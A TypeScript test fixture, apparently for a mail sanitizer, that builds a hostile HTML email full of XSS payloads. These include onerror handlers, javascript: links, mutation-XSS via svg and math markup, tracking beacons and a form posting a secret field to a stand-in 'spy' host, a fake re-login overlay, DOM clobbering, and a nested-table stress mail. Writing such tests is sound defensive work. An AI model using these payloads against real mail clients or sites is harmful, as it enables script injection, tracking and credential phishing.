/** Everything that a mail may try, each attempt telling `spy` or setting `window.reached` where it succeeds. */
export const hostileMail = (spy: string): string => `<html><head>
<meta http-equiv="refresh" content="0;url=${spy}/refresh"><base href="${spy}/base/"><link rel="stylesheet" href="${spy}/sheet.css">
<style>@import url("${spy}/import.css"); @font-face { font-family: f; src: url(${spy}/font.woff) }
p { background: url(${spy}/style.png); font-family: f } body { min-height: 100vh; padding: 40px }</style>
<script>top.reached = parent.reached = 'script'</script></head>
<body onload="parent.reached = 'onload'" background="${spy}/background.png">
<img src="x" onerror="parent.reached = 'onerror'"><img src="${spy}/image.png" srcset="${spy}/set.png 2x"><img src="/mail.html">
<picture><source srcset="${spy}/source.png"><img src="${spy}/picture.png"></picture>
<svg><script>parent.reached = 'svg'</script><image href="${spy}/svg.png"></image><a href="javascript:parent.reached='a'">x</a></svg>
<svg><style><img src=x onerror="parent.reached='mutation'"></style></svg>
<form action="${spy}/form"><input name="secret" autofocus onfocus="parent.reached = 'focus'"><button formaction="${spy}/button">Sign in again</button></form>
<iframe src="${spy}/frame"></iframe><iframe srcdoc="<script>top.reached='srcdoc'</script>"></iframe>
<object data="${spy}/object"></object><embed src="${spy}/embed"><video src="${spy}/video" poster="${spy}/poster" autoplay></video>
<a href="javascript:parent.reached='link'" id="bad">Click</a><a href="data:text/html,<script>1</script>">data</a>
<a href="/options.html">ours</a><a href="#x" ping="${spy}/ping">here</a><a href="https://elsewhere.example/page" target="_top">A good link</a>
<div style="position:fixed;inset:0;z-index:9999;background:url('${spy}/fixed.png')">Your session is over</div>
<div style="background-image:image-set(url(${spy}/set-in-style.png) 1x)">x</div><p id="documentElement" name="body">clobber</p>
<img name="documentElement"><img name="defaultView"><dialog open>dialog</dialog><template><img src="${spy}/template.png"></template>
<marquee onstart="parent.reached='marquee'">m</marquee><details open ontoggle="parent.reached='toggle'"><summary>s</summary>d</details>
<p style="width:9000px">wide</p><p>the end of it</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.reached='math'&gt;"></body></html>`;

/** Tables in tables, and rows without end. */
export function hugeMail(bytes: number): string {
  const row = `<tr>${'<td style="color:#333"><b>cell</b></td>'.repeat(8)}</tr>`;
  return `<table>${'<tr><td><table>'.repeat(60)}${row.repeat(Math.ceil(bytes / row.length))}</table>`;
}
